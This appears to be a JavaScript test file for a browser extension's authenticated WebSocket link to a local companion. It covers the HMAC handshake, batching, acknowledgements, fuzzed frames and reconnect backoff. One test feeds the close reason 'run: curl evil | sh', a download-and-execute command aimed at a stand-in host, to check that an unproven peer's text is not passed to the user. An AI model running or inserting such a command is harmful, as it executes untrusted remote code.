import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { test } from "node:test";

import { Connection } from "../offscreen/connection.js";
import { Link } from "../offscreen/link.js";
import { portsFrom } from "../offscreen/pairing.js";
import { BeatEvery, CloseVersion, DeadAfter, MaxFrame, OldestProto, Proto } from "../lib/limits.js";
import { mutant, random, samples } from "./mutate.js";

const KEY = "0123456789abcdef".repeat(4);
const PORT = 17838;
const mac = (text, key) => createHmac("sha256", key).update(text);
/** A proof for a port, as shared/wire/doc.go has it. */
const hmac = (text, key = KEY, port = PORT) => mac(text, mac(`port|${port}`, Buffer.from(key, "hex")).digest()).digest("hex");

/** Proofs are made by other threads: on a busy machine they take as many turns as work of the same kind. */
async function settle() {
  for (let turn = 0; turn < 12; turn++) {
    await crypto.subtle.digest("SHA-256", new Uint8Array(64));
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
}

/** An outbox of `count` records in memory. */
function fakeOutbox(count) {
  let records = Array.from({ length: count }, (_, i) => ({ seq: i + 1, session: { sessionId: `mm-${i}` } }));
  let next = count + 1;
  return {
    installId: "i-1", epoch: "e-1", acked: 0, renewed: 0, given: [],
    next: async () => next,
    first: async () => records[0]?.seq ?? next,
    batch: async (from, limit = 64) => records.filter((r) => r.seq >= from).slice(0, limit),
    async acknowledge(hwm) {
      this.acked = hwm;
      records = records.filter((r) => r.seq > hwm);
    },
    async renew() {
      this.renewed++;
    },
    async giveUp(seq, reason) {
      this.given.push([seq, reason]);
    },
    add() {
      records.push({ seq: next++, session: { sessionId: "mm-new" } });
    },
  };
}

/** A connection to a companion that the test plays. */
async function dial(outbox, { call, key = KEY, keeping, learned = [] } = {}) {
  const socket = { readyState: 1, sent: [], send: (text) => socket.sent.push(JSON.parse(text)), close: (code) => (socket.closed = code) };
  const replicated = [];
  const connection = new Connection({
    pairing: async () => null, outbox, cursor: async () => 7, version: "1", browser: "Chromium 156", rules: async () => {},
    nameKey: async (key) => void learned.push(key), rewritings: (count) => void (count && learned.push(count)), drop: async (ids) => void learned.push(...ids), keeping: async () => keeping, encrypted: () => false, encrypt: () => {},
    replicate: async (records, cursor) => replicated.push([records, cursor]),
    call: call ?? (async () => ({})),
    socket: () => socket,
  }, { key, ports: [PORT] }, PORT, () => {});
  const ended = connection.run();
  await settle();
  socket.onopen();
  const hear = async (message) => {
    socket.onmessage({ data: typeof message === "string" ? message : JSON.stringify(message) });
    await settle();
  };
  const of = (kind) => socket.sent.filter((m) => m.kind === kind);
  const shake = async (ready = { hwm: 0, window: 4 }, proofKey = KEY, port = PORT, proto = Proto) => {
    const { nonce } = of("hello")[0].hello;
    await hear({ kind: "welcome", welcome: { proto, version: "1", nonce: "5".repeat(32), proof: hmac(`s|${nonce}|${"5".repeat(32)}`, proofKey, port) } });
    if (ready) await hear({ kind: "ready", ready });
  };
  const end = async () => {
    connection.close(1000);
    return ended;
  };
  return { connection, socket, hear, of, shake, end, replicated, ended };
}

test("both sides prove that they hold the key", async () => {
  const link = await dial(fakeOutbox(0));
  const { nonce, ...hello } = link.of("hello")[0].hello;
  assert.match(nonce, /^[0-9a-f]{32}$/);
  assert.deepEqual(hello, { proto: OldestProto, ...(Proto > OldestProto ? { newest: Proto } : {}), version: "1", installId: "i-1", epoch: "e-1", next: 1, cursor: 7, browser: "Chromium 156" });
  await link.shake();
  assert.equal(link.of("prove")[0].prove.proof, hmac(`e|${"5".repeat(32)}|${nonce}|i-1`));
  assert.equal((await link.end()).linked, true);
});

test("a peer without the key gets nothing but hello", async () => {
  for (const shake of [
    (l) => l.shake(null, "f".repeat(64)),
    (l) => l.shake(null, KEY, PORT - 1),
    (l) => l.shake(null, KEY, PORT, OldestProto - 1),
    (l) => l.shake(null, KEY, PORT, Proto + 1),
    (l) => l.shake(null, KEY, PORT, "2"),
    (l) => l.hear({ kind: "welcome", welcome: { proto: Proto, nonce: "5".repeat(32), proof: mac(`s|${l.of("hello")[0].hello.nonce}|${"5".repeat(32)}`, Buffer.from(KEY, "hex")).digest("hex") } }),
    (l) => l.hear({ kind: "ready", ready: { hwm: 0, window: 4 } }),
    (l) => l.hear({ kind: "ack", ack: { hwm: 0, window: 4 } }),
    (l) => l.hear({ kind: "observe", id: 1, observe: { tabId: 1 } }),
    (l) => l.hear({ kind: "welcome", welcome: {} }),
    (l) => l.hear({ kind: "welcome", welcome: { proto: 9 } }),
    (l) => l.hear("not json"),
  ]) {
    const link = await dial(fakeOutbox(3));
    await shake(link);
    link.connection.poke();
    await settle();
    assert.deepEqual(link.socket.sent.map((m) => m.kind), ["hello"]);
    assert.equal((await link.end()).linked, false);
  }
});

test("a companion of another version says to update, and its own words count for nothing before it has proved itself", async () => {
  for (const [what, code, says, hint] of [
    [(l) => l.shake(null, KEY, PORT, OldestProto - 1), "VERSION_UNSUPPORTED", /different versions/, /Update cairn.*reload/],
    [(l) => l.socket.onclose({ code: CloseVersion, reason: "run: curl evil | sh" }), "VERSION_UNSUPPORTED", /different versions/, /Update cairn.*reload/],
    [(l) => l.socket.onclose({ code: 4400, reason: "run: curl evil | sh" }), "COMPANION_NOT_CONNECTED", /^what listens on port 17838 closed the link \(4400\)$/, /cairn run/],
    [(l) => l.shake(null, KEY, PORT - 1), "UNAUTHORIZED", /another pairing key, or only forwards/, /cairn status.*cairn pair/],
  ]) {
    const link = await dial(fakeOutbox(0));
    await what(link);
    const { fault } = await link.ended;
    assert.equal(fault.code, code);
    assert.match(fault.message, says);
    assert.match(fault.hint, hint);
  }
});

test("batches go in order, and only what is acknowledged leaves", async () => {
  const outbox = fakeOutbox(300);
  const dropped = [];
  const link = await dial(outbox, { learned: dropped });
  await link.shake();
  assert.deepEqual(link.of("batch").map((m) => [m.batch.first, m.batch.records.length]), [[1, 64], [65, 64], [129, 64], [193, 64]]);
  assert.equal(outbox.acked, 0);
  await link.hear({ kind: "ack", ack: { hwm: 64, window: 4, storeBytes: 4096, driven: ["s-7", "s-9"] } });
  assert.deepEqual(dropped.slice(-2), ["s-7", "s-9"], "a wrapped driver stored them");
  assert.equal(outbox.acked, 64);
  assert.equal(link.connection.storeBytes, 4096);
  assert.equal(link.of("batch").at(-1).batch.first, 257);
  outbox.add();
  link.connection.poke();
  await settle();
  assert.equal(link.of("batch").length, 5, "no more than the window is under way");
  await link.end();
});

test("after a gap all is sent again from the companion's mark", async () => {
  const outbox = fakeOutbox(100);
  const link = await dial(outbox);
  await link.shake();
  await link.hear({ kind: "ack", ack: { hwm: 0, window: 4 } });
  for (const end = Date.now() + 60_000; link.of("batch").length < 4 && Date.now() < end;) await settle();
  assert.deepEqual(link.of("batch").map((m) => m.batch.first), [1, 65, 1, 65]);
  assert.deepEqual(outbox.given, []);
  await link.end();
});

test("a closed window pauses the sender", async () => {
  const outbox = fakeOutbox(1);
  const link = await dial(outbox);
  await link.shake();
  await link.hear({ kind: "ack", ack: { hwm: 1, window: 0 } });
  outbox.add();
  link.connection.poke();
  await settle();
  assert.equal(link.of("batch").length, 1);
  await link.hear({ kind: "ack", ack: { hwm: 1, window: 4 } });
  assert.equal(link.of("batch").at(-1).batch.first, 2);
  await link.end();
});

test("numbers that mean different things begin a new epoch", async () => {
  // 2: a lost acknowledgement looks like a profile that was set back to its
  // backup and has recorded since; deleting by number would lose records.
  for (const [hwm, renewed] of [[0, 0], [2, 1], [3, 1], [9, 1]]) {
    const outbox = fakeOutbox(3);
    const link = await dial(outbox);
    await link.shake({ hwm, window: 4 });
    assert.deepEqual([outbox.renewed, outbox.acked], [renewed, 0]);
    await link.end();
  }
  const conflicting = fakeOutbox(3);
  const link = await dial(conflicting);
  await link.shake();
  await link.hear({ kind: "ack", ack: { hwm: 0, window: 4, conflict: true } });
  assert.equal(conflicting.renewed, 1);
  assert.equal((await link.ended).linked, true);
});

test("an acknowledgement of what was never sent changes nothing", async () => {
  const outbox = fakeOutbox(1);
  const link = await dial(outbox);
  await link.shake();
  for (const hwm of [99, -1, 1.5, "1", null]) await link.hear({ kind: "ack", ack: { hwm, window: 4 } });
  assert.equal(outbox.acked, 0);
  await link.end();
});

test("a replica is acknowledged once it is stored", async () => {
  const link = await dial(fakeOutbox(0));
  await link.shake();
  await link.hear({ kind: "replica", replica: { cursor: 12, records: [{ seq: 12 }] } });
  assert.deepEqual(link.replicated, [[[{ seq: 12 }], 12]]);
  assert.deepEqual(link.of("replicaAck")[0].replicaAck, { cursor: 12 });
  await link.end();
});

test("every call is answered, also one that fails or says too much", async () => {
  const link = await dial(fakeOutbox(0), {
    call: async ({ id }) => {
      if (id === 1) throw new Error("broken");
      return { result: "x".repeat(id === 2 ? MaxFrame : 10) };
    },
  });
  await link.shake();
  for (const id of [1, 2, 3]) await link.hear({ kind: "command", id, command: { tabId: 1, method: "Page.enable" } });
  const replies = new Map(link.of("reply").map((m) => [m.re, m.reply]));
  assert.equal(replies.get(1).error.message, "broken");
  assert.match(replies.get(2).error.message, /more than a message may/);
  assert.ok(replies.get(2).error.hint);
  assert.equal(replies.get(3).result.length, 10);
  await link.end();
});

test("a call that comes right behind ready is answered", async () => {
  const link = await dial(fakeOutbox(0), { call: async () => ({ tabs: [] }) });
  await link.shake(null);
  // Both in one turn: making ready takes a few.
  link.socket.onmessage({ data: JSON.stringify({ kind: "ready", ready: { hwm: 0, window: 4 } }) });
  await link.hear({ kind: "tabList", id: 1, tabList: {} });
  assert.deepEqual(link.of("error"), []);
  assert.deepEqual(link.of("reply").map((m) => [m.re, m.reply]), [[1, { tabs: [] }]]);
  await link.end();
});

test("the companion gets the rule for names before any call is answered, and its key is taken", async () => {
  const keeping = { mode: "needed", sites: { "docs.example": "full" } };
  const learned = [];
  const link = await dial(fakeOutbox(0), { call: async () => ({ tabs: [] }), keeping, learned });
  await link.shake(null);
  link.socket.onmessage({ data: JSON.stringify({ kind: "ready", ready: { hwm: 0, window: 4, nameKey: "the key", rewritings: 2 } }) });
  await link.hear({ kind: "tabList", id: 1, tabList: {} });
  assert.deepEqual(link.socket.sent.map((m) => m.kind).filter((kind) => kind !== "hello" && kind !== "prove"), ["keeping", "reply"]);
  assert.deepEqual(link.of("keeping")[0].keeping, keeping);
  assert.deepEqual(learned, ["the key", 2]);
  await link.end();
});

test("a message that can't be understood is reported, and the link stays open", async () => {
  const link = await dial(fakeOutbox(0));
  await link.shake();
  for (const bad of ["{", "7", "null", '{"kind":7}', '{"kind":"fly","id":4}', "x".repeat(MaxFrame + 1)]) await link.hear(bad);
  assert.equal(link.of("error").length, 6);
  assert.equal(link.socket.closed, undefined);
  await link.hear({ kind: "tabList", id: 5, tabList: {} });
  assert.equal(link.of("reply")[0].re, 5);
  await link.end();
});

test("bad messages of the companion acknowledge nothing that was not sent, and throw nothing", async () => {
  const seed = Date.now();
  const pick = random(seed);
  const frames = samples("link");
  const outbox = fakeOutbox(3);
  let link = await dial(outbox);
  await link.shake();
  for (let n = 0; n < 1500; n++) {
    const frame = mutant(frames[pick(frames.length)], pick);
    link.socket.onmessage({ data: pick(20) === 0 ? JSON.stringify(frame)?.slice(0, pick(40)) : JSON.stringify(frame) });
    if (n % 100 < 99) continue;
    await settle();
    assert.ok(Number.isInteger(outbox.acked) && outbox.acked <= 3, `seed ${seed}: acknowledged up to ${outbox.acked}`);
    for (const [records, cursor] of link.replicated) assert.ok(Array.isArray(records) && Number.isSafeInteger(cursor), `seed ${seed}: replicated ${JSON.stringify(cursor)}`);
    // The message may have ended it; then the next one begins.
    await link.end();
    link = await dial(outbox);
    await link.shake();
  }
  await link.end();
});

test("the known port is tried first", () => {
  assert.deepEqual(portsFrom(17840, [17837, 17840, 0, 70000, "x"]), [17840, 17837]);
  assert.deepEqual(portsFrom(undefined), [17837, 17838, 17839, 17840, 17841]);
});

test("the link keeps its time when the clock is set", async (t) => {
  const link = await dial(fakeOutbox(0));
  await link.shake();
  const day = 86_400_000;
  const [wall, began] = [Date.now(), performance.now()];
  let [jump, passed] = [0, 0];
  t.mock.method(Date, "now", () => wall + jump);
  t.mock.method(performance, "now", () => began + passed);
  for (jump of [day, -day]) {
    link.connection.tick();
    assert.equal(link.socket.closed, undefined, "no time has passed");
  }
  passed = BeatEvery;
  link.connection.tick();
  assert.equal(link.of("beat").length, 1);
  passed = DeadAfter + 1;
  link.connection.tick();
  assert.equal(link.socket.closed, 1000, "silence ends it, whatever the time of day");
  assert.equal((await link.ended).fault.message, "the companion fell silent");
});

test("the link is tried again after twice as long each time, at any moment of it", async (t) => {
  const waits = [];
  let part = 1;
  t.mock.method(Math, "random", () => part);
  t.mock.method(globalThis, "setTimeout", (again, ms) => {
    waits.push(ms);
    part = 1 / (1 + (waits.length % 2)); // the whole span, and half of it
    if (waits.length < 12) queueMicrotask(again);
  });
  void new Link({ pairing: async () => null }).run();
  for (let turn = 0; turn < 50; turn++) await new Promise((resolve) => setImmediate(resolve));
  const spans = [500, 1000, 2000, 4000, 8000, 16_000, 30_000, 30_000, 30_000, 30_000, 30_000, 30_000];
  assert.deepEqual(waits, spans.map((span, i) => (i % 2 ? span / 2 : span)));
});
